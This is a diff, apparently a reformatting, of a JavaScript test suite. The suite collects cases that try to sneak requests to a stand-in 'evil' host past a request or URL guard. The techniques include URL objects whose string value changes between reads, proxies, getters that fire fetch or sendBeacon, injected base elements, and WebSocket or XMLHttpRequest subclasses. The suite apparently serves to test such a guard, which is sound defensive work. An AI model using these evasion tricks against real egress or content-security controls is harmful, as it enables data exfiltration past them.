@@ -2,7 +2,9 @@
 export default {
   "a URL whose string changes, in fetch": ({ own, evil }) => {
     let reads = 0;
-    return fetch({ toString: () => (reads++ ? evil : own) }, { mode: "no-cors" }).then(() => fetch({ toString: () => evil }, { mode: "no-cors" }));
+    return fetch({ toString: () => (reads++ ? evil : own) }, { mode: "no-cors" }).then(() =>
+      fetch({ toString: () => evil }, { mode: "no-cors" }),
+    );
   },
   "a URL whose primitive changes, in fetch": ({ own, evil }) => {
     let reads = 0;
@@ -17,7 +19,12 @@ export default {
   },
   "a URL object that the init moves": ({ evil }) => {
     const url = new URL(evil + "/moved");
-    return fetch(url, { get mode() { url.href = evil + "/again"; return "no-cors"; } });
+    return fetch(url, {
+      get mode() {
+        url.href = evil + "/again";
+        return "no-cors";
+      },
+    });
   },
   "a URL in an array": ({ evil }) => fetch([evil], { mode: "no-cors" }),
   "a URL in an array whose join changes": ({ own, evil }) => {
@@ -50,13 +57,20 @@ export default {
   "a request of another realm that lies": ({ add, own, evil }) => {
     add("iframe");
     const request = new window[0].Request(evil, { mode: "no-cors" });
-    Object.setPrototypeOf(request, { __proto__: Request.prototype, get url() { return own; } });
+    Object.setPrototypeOf(request, {
+      __proto__: Request.prototype,
+      get url() {
+        return own;
+      },
+    });
     return fetch(request);
   },
   "a request in a proxy": ({ own, evil }) => {
     let reads = 0;
     const target = new Request(evil, { mode: "no-cors" });
-    const asked = new Proxy(target, { get: (_, key) => (key === Symbol.toPrimitive ? () => (reads++ % 2 ? own : evil) : target[key]) });
+    const asked = new Proxy(target, {
+      get: (_, key) => (key === Symbol.toPrimitive ? () => (reads++ % 2 ? own : evil) : target[key]),
+    });
     return fetch(asked, { mode: "no-cors" });
   },
   "a clone of a request": ({ evil }) => fetch(new Request(new Request(evil, { mode: "no-cors" })).clone()),
@@ -64,19 +78,60 @@ export default {
     fetch(evil, new Proxy({ mode: "no-cors" }, { get: (target, key) => target[key], has: () => true })),
   "an init that keeps alive by a getter": ({ evil }) => {
     let reads = 0;
-    return fetch(evil, { mode: "no-cors", method: "POST", body: "x", get keepalive() { return reads++ > 0; } });
+    return fetch(evil, {
+      mode: "no-cors",
+      method: "POST",
+      body: "x",
+      get keepalive() {
+        return reads++ > 0;
+      },
+    });
   },
   "an init that makes a call of its own": ({ own, evil }) =>
-    fetch(own, { get method() { fetch(evil, { mode: "no-cors" }).catch(() => {}); return "GET"; } }),
+    fetch(own, {
+      get method() {
+        fetch(evil, { mode: "no-cors" }).catch(() => {});
+        return "GET";
+      },
+    }),
   "an init that throws and sends": ({ own, evil }) =>
-    fetch(own, { get method() { navigator.sendBeacon(evil, "x"); throw 1; } }),
+    fetch(own, {
+      get method() {
+        navigator.sendBeacon(evil, "x");
+        throw 1;
+      },
+    }),
   "a base that moves while a URL is read, in fetch": ({ evil }) =>
-    fetch({ toString() { document.head.append(Object.assign(document.createElement("base"), { href: evil })); return "x"; } }, { mode: "no-cors" }),
+    fetch(
+      {
+        toString() {
+          document.head.append(Object.assign(document.createElement("base"), { href: evil }));
+          return "x";
+        },
+      },
+      { mode: "no-cors" },
+    ),
   "a base that moves while a URL is read, in a beacon": ({ evil }) =>
-    navigator.sendBeacon({ toString() { document.head.append(Object.assign(document.createElement("base"), { href: evil })); return "x"; } }, "x"),
+    navigator.sendBeacon(
+      {
+        toString() {
+          document.head.append(Object.assign(document.createElement("base"), { href: evil }));
+          return "x";
+        },
+      },
+      "x",
+    ),
   "a base that moves while a verb is read": ({ evil }) => {
     const x = new XMLHttpRequest();
-    x.open({ toString() { document.head.append(Object.assign(document.createElement("base"), { href: evil })); return "GET"; } }, "/x");
+    x.open(
+      {
+        toString() {
+          document.head.append(Object.assign(document.createElement("base"), { href: evil }));
+          return "GET";
+        },
+      },
+      "/x",
+    );
     x.send();
   },
   "a base that moves between open and send": ({ evil }) => {
@@ -141,7 +196,13 @@ export default {
   "a request's open by a list that changes": ({ own, evil }) => {
     const x = new XMLHttpRequest();
     let reads = 0;
-    const args = { length: 2, 0: "GET", get 1() { return reads++ ? own : evil; } };
+    const args = {
+      length: 2,
+      0: "GET",
+      get 1() {
+        return reads++ ? own : evil;
+      },
+    };
     Reflect.apply(XMLHttpRequest.prototype.open, x, args);
     x.send();
   },
@@ -156,7 +217,11 @@ export default {
   },
   "a socket whose protocols change the URL": ({ socket }) => {
     const url = new URL(socket);
-    void new WebSocket(url, { *[Symbol.iterator]() { url.href = socket + "/x"; } });
+    void new WebSocket(url, {
+      *[Symbol.iterator]() {
+        url.href = socket + "/x";
+      },
+    });
   },
   "a socket in an array": ({ socket }) => void new WebSocket([socket]),
   "an event source whose URL changes": ({ own, evil }) => {
@@ -164,7 +229,12 @@ export default {
     void new EventSource({ [Symbol.toPrimitive]: () => (reads++ % 2 ? own : evil) });
   },
   "an event source whose options send": ({ own, evil }) =>
-    void new EventSource(own, { get withCredentials() { navigator.sendBeacon(evil, "x"); return false; } }),
+    void new EventSource(own, {
+      get withCredentials() {
+        navigator.sendBeacon(evil, "x");
+        return false;
+      },
+    }),
   "a window whose URL changes": ({ own, evil }) => {
     let reads = 0;
     open({ toString: () => (reads++ % 2 ? own : evil) });
@@ -207,7 +277,12 @@ export default {
     fetchLater(url, { activateAfter: 0 });
   },
   "fetchLater whose options send": ({ evil, own }) =>
-    void fetchLater(own, { get activateAfter() { fetchLater(evil, { activateAfter: 0 }); return 0; } }),
+    void fetchLater(own, {
+      get activateAfter() {
+        fetchLater(evil, { activateAfter: 0 });
+        return 0;
+      },
+    }),
   "a subclass of XMLHttpRequest": ({ own, evil }) => {
     class Mine extends XMLHttpRequest {
       open(verb, url) {
@@ -227,7 +302,9 @@ export default {
     void new Mine(own);
   },
   "a subclass whose prototype is asked for": ({ socket }) => {
-    const Target = new Proxy(function () {}.bind(), { get: (target, key) => (key === "prototype" ? WebSocket.prototype : target[key]) });
+    const Target = new Proxy(function () {}.bind(), {
+      get: (target, key) => (key === "prototype" ? WebSocket.prototype : target[key]),
+    });
     void Reflect.construct(WebSocket, [socket], Target);
   },
 };
